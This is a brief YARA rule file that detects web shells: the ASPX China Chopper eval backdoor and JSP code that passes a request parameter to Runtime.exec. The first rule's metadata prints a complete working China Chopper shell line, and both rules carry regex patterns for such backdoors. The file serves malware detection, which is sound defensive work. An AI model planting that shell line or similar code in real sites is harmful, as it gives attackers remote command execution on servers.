rule aspx_china_chopper
{
    meta:
        example = "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"pass\"],\"unsafe\");%>"
    strings:
        $e = /eval\s{0,2}\(\s{0,2}Request(\.Item)?\s{0,2}[\[\(]\s{0,2}"[^"]{1,32}"\s{0,2}[\]\)]\s{0,2},\s{0,2}"unsafe"/ nocase
    condition:
        filesize < 100KB and $e
}

rule jsp_runtime_exec_param
{
    strings:
        $x = /getRuntime\s{0,2}\(\s{0,2}\)\s{0,4}\.\s{0,4}exec\s{0,2}\(\s{0,2}request\s{0,2}\.\s{0,2}getParameter/
    condition:
        filesize < 100KB and $x
}
